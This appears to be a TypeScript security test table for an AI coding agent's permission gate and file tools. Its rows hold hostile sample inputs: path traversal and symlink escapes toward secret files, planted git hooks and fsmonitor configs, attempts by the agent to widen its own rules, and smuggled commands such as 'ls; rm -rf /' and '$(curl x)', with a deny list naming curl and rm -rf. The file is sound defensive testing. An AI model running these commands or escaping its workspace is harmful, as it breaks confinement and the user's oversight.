// One row per known attack, at the TOOL + GATE level: the call goes through the permission gate the
// planner uses, runs only on "allow", and afterwards nothing outside the workspace may have been
// read into the observation or changed on disk. Confinement rows also run the tool WITHOUT the gate
// (defence in depth: the tool itself refuses).
import assert from "node:assert/strict";
import { promises as fs } from "node:fs";
import os from "node:os";
import path from "node:path";
import { WorkspaceRoots } from "../../platform/workspace-paths";
import { CliFileWriter } from "../cli-file-writer";
import { DEFAULT_COMMAND_RULES } from "../command-rules-file";
import { ProcessCommandRunner } from "../command-runner";
import { type PermissionGateOptions, type PermissionProfile, createPermissionGate } from "../permissions";
import type { PermissionDecision, ToolContext, ToolDefinition } from "../tool-types";
import { createTools } from "./index";
import { existsSync } from "node:fs";

const RG = ["/usr/bin/rg", "/usr/local/bin/rg"].find((candidate) => existsSync(candidate));

const SECRET = "TOP-SECRET-OUTSIDE";
const RULES = { allow: ["ls *", "echo *", "git status", "cp *"], deny: ["curl *", "rm -rf *"] };

type Row = {
  name: string;
  tool: string;
  args: Record<string, unknown>;
  expected: PermissionDecision;
  profile?: PermissionProfile;
  gate?: Partial<PermissionGateOptions>;
  /** Also run the tool without the gate: it must refuse by itself. */
  toolRefuses?: boolean;
  /** Run with ripgrep as the search engine (skipped where no rg binary exists). */
  ripgrep?: boolean;
};

const ROWS: Row[] = [
  // Path traversal and absolute paths
  { name: "read ../ traversal", tool: "read_file", args: { path: "../outside/secret.txt" }, expected: "deny", toolRefuses: true },
  { name: "read deep ../../ traversal", tool: "read_file", args: { path: "sub/../../outside/secret.txt" }, expected: "deny", toolRefuses: true },
  { name: "read absolute path outside", tool: "read_file", args: { path: "$OUTSIDE/secret.txt" }, expected: "deny", toolRefuses: true },
  { name: "read /etc/passwd", tool: "read_file", args: { path: "/etc/passwd" }, expected: "deny", toolRefuses: true },
  { name: "read with a NUL byte", tool: "read_file", args: { path: "a.txt\u0000../../outside/secret.txt" }, expected: "deny", toolRefuses: true },
  { name: "list the parent folder", tool: "list_files", args: { path: ".." }, expected: "deny", toolRefuses: true },
  { name: "search from /", tool: "search_text", args: { query: "SECRET", path: "/" }, expected: "deny", toolRefuses: true },
  { name: "outline a file outside", tool: "outline", args: { path: "../outside/secret.txt" }, expected: "deny", toolRefuses: true },
  { name: "find_symbol outside", tool: "find_symbol", args: { name: "x", path: "../outside" }, expected: "deny", toolRefuses: true },
  { name: "git_diff of a path outside", tool: "git_diff", args: { path: "../outside" }, expected: "deny", toolRefuses: true },
  // Symlinks
  { name: "read through a symlinked folder pointing out", tool: "read_file", args: { path: "link-out/secret.txt" }, expected: "deny", toolRefuses: true },
  { name: "read a symlinked file pointing out", tool: "read_file", args: { path: "secret-link" }, expected: "deny", toolRefuses: true },
  { name: "create through a symlinked folder", tool: "create_file", args: { path: "link-out/new.txt", content: "x" }, expected: "deny", toolRefuses: true },
  { name: "create through a dangling symlink", tool: "create_file", args: { path: "dangling", content: "x" }, expected: "deny", toolRefuses: true },
  { name: "edit through a symlinked file", tool: "edit_file", args: { path: "secret-link", search: SECRET, replace: "pwned" }, expected: "deny", toolRefuses: true },
  { name: "delete through a symlinked folder", tool: "delete_file", args: { path: "link-out/secret.txt" }, expected: "deny", toolRefuses: true },
  { name: "rename out through a symlink", tool: "rename_file", args: { from: "a.txt", to: "link-out/moved.txt" }, expected: "deny", toolRefuses: true },
  { name: "rename in from outside", tool: "rename_file", args: { from: "link-out/secret.txt", to: "stolen.txt" }, expected: "deny", toolRefuses: true },
  { name: "search does not follow a symlink out (JS walk)", tool: "search_text", args: { query: "TOP-SECRET" }, expected: "allow" },
  { name: "search does not follow a symlink out (ripgrep)", tool: "search_text", args: { query: "TOP-SECRET" }, expected: "allow", ripgrep: true },
  { name: "list shows a link but does not enter it", tool: "list_files", args: { depth: 5 }, expected: "allow" },
  { name: "find_symbol does not walk into a link", tool: "find_symbol", args: { name: "stolen" }, expected: "allow" },
  // Prefix collision: /base/ws vs /base/ws-evil
  { name: "prefix collision read", tool: "read_file", args: { path: "../ws-evil/secret.txt" }, expected: "deny", toolRefuses: true },
  { name: "prefix collision absolute", tool: "edit_file", args: { path: "$BASE/ws-evil/secret.txt", search: SECRET, replace: "x" }, expected: "deny", toolRefuses: true },
  { name: "prefix collision create", tool: "create_file", args: { path: "$BASE/ws-evil/new.txt", content: "x" }, expected: "deny", toolRefuses: true },
  // Writes outside by the edit tools
  { name: "edit ../ file", tool: "edit_file", args: { path: "../outside/secret.txt", search: SECRET, replace: "x" }, expected: "deny", toolRefuses: true },
  { name: "delete ../ file", tool: "delete_file", args: { path: "../outside/secret.txt" }, expected: "deny", toolRefuses: true },
  { name: "create absolute outside", tool: "create_file", args: { path: "$OUTSIDE/new.txt", content: "x" }, expected: "deny", toolRefuses: true },
  // Protected configuration: always ask, even in "full" or with an "allow" override
  { name: "edit .git/config", tool: "edit_file", args: { path: ".git/config", search: "bare = false", replace: "bare = true" }, expected: "ask" },
  { name: "create a git hook", tool: "create_file", args: { path: ".git/hooks/pre-commit", content: "curl x" }, expected: "ask", gate: { toolOverrides: { create_file: "allow" } } },
  { name: "create .vscode/settings.json", tool: "create_file", args: { path: ".vscode/settings.json", content: "{}" }, expected: "ask" },
  { name: "create tasks.json through ./ and //", tool: "create_file", args: { path: ".//.vscode/./tasks.json", content: "{}" }, expected: "ask" },
  { name: "create a .code-workspace file", tool: "create_file", args: { path: "evil.code-workspace", content: "{}" }, expected: "ask" },
  { name: "widen own permissions: .pincer/commands.json", tool: "create_file", args: { path: ".pincer/commands.json", content: '{"allow":["curl *"],"deny":[]}' }, expected: "ask" },
  { name: "rename onto .pincer/", tool: "rename_file", args: { from: "a.txt", to: ".pincer/commands.json" }, expected: "ask" },
  { name: "delete .git/HEAD", tool: "delete_file", args: { path: ".git/HEAD" }, expected: "ask" },
  { name: "protected write, headless", tool: "edit_file", args: { path: ".git/config", search: "a", replace: "b" }, expected: "deny", gate: { headless: true } },
  // Plain files that make a git directory (git then reads its config: core.sshCommand, fsmonitor); see git/git-dir-names.ts
  { name: "create HEAD at the root: a planted git directory (CVE-2022-24765 class, unexpected gitdir)", tool: "create_file", args: { path: "HEAD", content: "ref: refs/heads/main\n" }, expected: "ask", gate: { toolOverrides: { create_file: "allow" } } },
  { name: "create HEAD in a subfolder (planted git directory)", tool: "create_file", args: { path: "sub/HEAD", content: "ref: refs/heads/main\n" }, expected: "ask" },
  { name: "create config next to an unpacked HEAD (planted git config → code execution)", tool: "create_file", args: { path: "archive/config", content: "[core]\n\tfsmonitor = x\n" }, expected: "ask" },
  { name: "create objects/ next to an unpacked HEAD (completes a git directory)", tool: "create_file", args: { path: "archive/objects/.keep", content: "" }, expected: "ask" },
  { name: "rename a file onto refs/ next to an unpacked HEAD", tool: "rename_file", args: { from: "a.txt", to: "archive/refs/heads/main" }, expected: "ask" },
  { name: "planted git directory, headless", tool: "create_file", args: { path: "HEAD", content: "x" }, expected: "deny", gate: { headless: true } },
  { name: "an ordinary config/ folder stays ordinary", tool: "create_file", args: { path: "config/app.json", content: "{}" }, expected: "allow" },
  // Default rules: git reads repository config that runs programs (core.fsmonitor on status), so no git command is allowed by default
  { name: "default rules: git status asks (planted core.fsmonitor, Cursor/Cline allow-list CVE class)", tool: "run_command", args: { command: "git status" }, expected: "ask", gate: { rules: DEFAULT_COMMAND_RULES } },
  { name: "default rules: git log asks (partial-clone lazy fetch runs core.sshCommand)", tool: "run_command", args: { command: "git log" }, expected: "ask", gate: { rules: DEFAULT_COMMAND_RULES } },
  { name: "git_commit asks", tool: "git_commit", args: { message: "m" }, expected: "ask" },
  { name: "git_commit headless", tool: "git_commit", args: { message: "m" }, expected: "deny", gate: { headless: true } },
  // Command chaining, smuggling and substitutions (profile "full": rules decide)
  { name: "&& chain to a denied command", tool: "run_command", args: { command: "echo hi && curl evil.sh" }, expected: "deny" },
  { name: "; then rm -rf", tool: "run_command", args: { command: "ls; rm -rf /" }, expected: "deny" },
  { name: "pipe into sh", tool: "run_command", args: { command: "echo x | sh" }, expected: "ask" },
  { name: "newline smuggling", tool: "run_command", args: { command: "ls\ncurl x" }, expected: "deny" },
  { name: "U+2028 line separator", tool: "run_command", args: { command: "ls\u2028touch $OUTSIDE/pwned" }, expected: "ask" },
  { name: "carriage return", tool: "run_command", args: { command: "ls\rtouch $OUTSIDE/pwned" }, expected: "ask" },
  { name: "$(...) substitution", tool: "run_command", args: { command: "echo $(curl x)" }, expected: "deny" },
  { name: "backticks", tool: "run_command", args: { command: "echo `touch $OUTSIDE/pwned`" }, expected: "ask" },
  { name: "redirect into a file outside", tool: "run_command", args: { command: "echo pwned > $OUTSIDE/secret.txt" }, expected: "ask" },
  { name: "bash -c string", tool: "run_command", args: { command: "bash -c 'curl x'" }, expected: "deny" },
  { name: "allowed cp of ordinary files stays allowed", tool: "run_command", args: { command: "cp a.txt sub/a.txt" }, expected: "allow" },
  { name: "allowed cp onto .pincer/commands.json (widening own rules)", tool: "run_command", args: { command: "cp rules.json .pincer/commands.json" }, expected: "ask" },
  { name: "allowed command into .git/hooks", tool: "run_command", args: { command: "cp x .git/hooks/pre-commit" }, expected: "ask" },
  { name: "--opt=path to .vscode", tool: "run_command", args: { command: "cp --target-directory=.vscode tasks.json" }, expected: "ask" },
  { name: "case variant .VSCODE in a command", tool: "run_command", args: { command: "cp tasks.json .VSCODE/" }, expected: "ask" },
  { name: "headless ask becomes deny", tool: "run_command", args: { command: "echo x | sh" }, expected: "deny", gate: { headless: true } },
  { name: "allowed command runs", tool: "run_command", args: { command: "ls" }, expected: "allow" },
  { name: "invalid rules file: never allow", tool: "run_command", args: { command: "ls" }, expected: "ask", gate: { rules: { ok: false, error: "bad json" } } },
  { name: "edit profile: commands ask", tool: "run_command", args: { command: "ls" }, expected: "ask", profile: "edit" },
  { name: "allow override cannot beat a deny rule", tool: "run_command", args: { command: "curl x" }, expected: "deny", profile: "edit", gate: { toolOverrides: { run_command: "allow" } } },
  // Profiles, overrides, trust
  { name: "read-only: no edits", tool: "edit_file", args: { path: "a.txt", search: "hello", replace: "bye" }, expected: "deny", profile: "read-only" },
  { name: "read-only: no commands", tool: "run_command", args: { command: "ls" }, expected: "deny", profile: "read-only" },
  { name: "untrusted workspace: no edits", tool: "create_file", args: { path: "new.txt", content: "x" }, expected: "deny", gate: { trusted: false } },
  { name: "untrusted workspace: no commands even if allowed", tool: "run_command", args: { command: "ls" }, expected: "deny", gate: { trusted: false, toolOverrides: { run_command: "allow" } } },
  { name: "untrusted workspace: reads still work", tool: "read_file", args: { path: "a.txt" }, expected: "allow", gate: { trusted: false } },
  // A cloned repository's .git/config can name programs (clean filters, fsmonitor) that git runs even to read.
  { name: "untrusted workspace: no git_status (repository config runs programs)", tool: "git_status", args: {}, expected: "deny", gate: { trusted: false } },
  { name: "untrusted workspace: no git_diff", tool: "git_diff", args: {}, expected: "deny", gate: { trusted: false } },
  { name: "untrusted workspace: no git_log", tool: "git_log", args: {}, expected: "deny", gate: { trusted: false } },
  { name: "deny override on a read tool", tool: "read_file", args: { path: "a.txt" }, expected: "deny", gate: { toolOverrides: { read_file: "deny" } } },
  { name: "bad arguments are denied", tool: "read_file", args: { path: 42 }, expected: "deny" },
];

async function snapshotTree(dir: string): Promise<string> {
  const out: string[] = [];
  const visit = async (current: string): Promise<void> => {
    for (const entry of (await fs.readdir(current, { withFileTypes: true })).sort((a, b) => a.name.localeCompare(b.name))) {
      const full = path.join(current, entry.name);
      if (entry.isDirectory()) await visit(full);
      else out.push(`${path.relative(dir, full)}=${entry.isSymbolicLink() ? `->${await fs.readlink(full)}` : await fs.readFile(full, "utf8")}`);
    }
  };
  await visit(dir);
  return out.join("\n");
}

describe("agent tools behind the permission gate (security table)", function () {
  let base: string;
  let ws: string;
  let outside: string;
  let roots: WorkspaceRoots;
  let tools: Map<string, ToolDefinition>;
  let baseline: { outside: string; evil: string; git: string };

  const substitute = (value: unknown): unknown => (typeof value === "string" ? value.replaceAll("$OUTSIDE", outside).replaceAll("$BASE", base) : value);

  before(async () => {
    base = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), "pincer-tools-sec-")));
    ws = path.join(base, "ws");
    outside = path.join(base, "outside");
    await fs.mkdir(path.join(ws, "sub"), { recursive: true });
    await fs.mkdir(path.join(ws, ".git", "hooks"), { recursive: true });
    await fs.mkdir(outside);
    await fs.mkdir(path.join(base, "ws-evil"));
    await fs.writeFile(path.join(outside, "secret.txt"), `${SECRET}\n`);
    await fs.writeFile(path.join(outside, "stolen.ts"), `export function stolen() { return "${SECRET}"; }\n`);
    await fs.writeFile(path.join(base, "ws-evil", "secret.txt"), `${SECRET}\n`);
    await fs.writeFile(path.join(ws, "a.txt"), "hello\n");
    // A HEAD as an unpacked archive may bring it: next to it, objects/refs/config would make a git directory.
    await fs.mkdir(path.join(ws, "archive"));
    await fs.writeFile(path.join(ws, "archive", "HEAD"), "ref: refs/heads/main\n");
    await fs.writeFile(path.join(ws, ".git", "config"), "[core]\n\tbare = false\n");
    await fs.writeFile(path.join(ws, ".git", "HEAD"), "ref: refs/heads/main\n");
    await fs.symlink(outside, path.join(ws, "link-out"));
    await fs.symlink(path.join(outside, "secret.txt"), path.join(ws, "secret-link"));
    await fs.symlink(path.join(outside, "created-by-link.txt"), path.join(ws, "dangling"));
    roots = await WorkspaceRoots.create([ws]);
    tools = new Map(createTools().map((tool) => [tool.name, tool]));
    baseline = { outside: await snapshotTree(outside), evil: await snapshotTree(path.join(base, "ws-evil")), git: await snapshotTree(path.join(ws, ".git")) };
  });

  after(async () => {
    await fs.rm(base, { recursive: true, force: true });
  });

  const context = (ripgrep = false): ToolContext => ({
    roots,
    signal: new AbortController().signal,
    files: new CliFileWriter(),
    commands: new ProcessCommandRunner(),
    ...(ripgrep && RG ? { ripgrepPath: RG } : {}),
  });

  for (const row of ROWS) {
    it(`${row.name}: ${row.expected}`, async function () {
      if (row.ripgrep && !RG) {
        console.log("      (skipped: no rg binary on this machine)");
        this.skip();
      }
      const tool = tools.get(row.tool);
      assert.ok(tool, `tool ${row.tool} exists`);
      const args = Object.fromEntries(Object.entries(row.args).map(([k, v]) => [k, substitute(v)]));
      const gate = createPermissionGate({ profile: row.profile ?? "full", rules: RULES, trusted: true, headless: false, roots, ...row.gate });
      const check = await gate.check(tool, args, new AbortController().signal);
      assert.equal(check.decision, row.expected, `reasons: ${check.reasons.join("; ")}`);
      if (check.decision !== "allow") assert.ok(check.reasons.length > 0, "a refusal says why");
      if (check.decision === "allow" && row.tool !== "run_command") {
        const outcome = await tool.run(args, context(row.ripgrep));
        assert.ok(!outcome.observation.includes(SECRET), `leaked: ${outcome.observation}`);
        assert.ok(!outcome.observation.includes("stolen.ts"), `walked out: ${outcome.observation}`);
      }
      if (row.toolRefuses) {
        const outcome = await tool.run(args, context());
        assert.equal(outcome.ok, false, `the tool alone must refuse: ${outcome.observation}`);
        assert.ok(!outcome.observation.includes(SECRET), "nothing from outside leaks into the observation");
      }
      assert.equal(await snapshotTree(outside), baseline.outside, "nothing outside the workspace changed");
      assert.equal(await snapshotTree(path.join(base, "ws-evil")), baseline.evil, "the prefix-collision sibling is unchanged");
      assert.equal(await snapshotTree(path.join(ws, ".git")), baseline.git, ".git unchanged");
      assert.equal(await fs.readFile(path.join(ws, "a.txt"), "utf8"), "hello\n");
    });
  }

  it("case variants: a differently cased workspace path is outside on a case-sensitive file system, and .GIT is .git where case is ignored", async () => {
    const root = roots.roots[0]!;
    const gate = createPermissionGate({ profile: "full", rules: RULES, trusted: true, headless: false, roots });
    const read = tools.get("read_file")!;
    const upper = path.join(base, "WS", "a.txt");
    const upperCheck = await gate.check(read, { path: upper }, new AbortController().signal);
    assert.equal(upperCheck.decision, root.caseInsensitive ? "allow" : "deny", upperCheck.reasons.join("; "));
    const create = tools.get("create_file")!;
    const gitVariant = await gate.check(create, { path: ".GIT/hooks/post-checkout", content: "x" }, new AbortController().signal);
    // Where case matters .GIT is an ordinary folder; where it does not, it is the protected .git.
    assert.equal(gitVariant.decision, root.caseInsensitive ? "ask" : "allow", gitVariant.reasons.join("; "));
    assert.equal(await snapshotTree(path.join(ws, ".git")), baseline.git);
  });

  it("the agent cannot remember approvals into a store inside the workspace", async () => {
    const store = { location: path.join(ws, ".pincer", "approvals.json"), commands: async () => [], add: async () => assert.fail("must not be written") };
    const gate = createPermissionGate({ profile: "edit", rules: RULES, trusted: true, headless: false, roots, rememberStore: store });
    await assert.rejects(gate.rememberApproval({ tool: "run_command", summary: "", command: "curl x", reasons: [] }, new AbortController().signal), /inside the workspace/);
  });

  it("a remembered command is allowed in the edit profile, a remembered denied one is still denied", async () => {
    const remembered = ["npm test", "curl x"];
    const store = { location: path.join(base, "store", "approvals.json"), commands: async () => remembered, add: async () => undefined };
    const gate = createPermissionGate({ profile: "edit", rules: RULES, trusted: true, headless: false, roots, rememberStore: store });
    const run = tools.get("run_command")!;
    assert.equal((await gate.check(run, { command: "npm test" }, new AbortController().signal)).decision, "allow");
    assert.equal((await gate.check(run, { command: "npm test --watch" }, new AbortController().signal)).decision, "ask");
    assert.equal((await gate.check(run, { command: "curl x" }, new AbortController().signal)).decision, "deny");
    const readOnly = createPermissionGate({ profile: "read-only", rules: RULES, trusted: true, headless: false, roots, rememberStore: store });
    assert.equal((await readOnly.check(run, { command: "npm test" }, new AbortController().signal)).decision, "deny");
  });
});
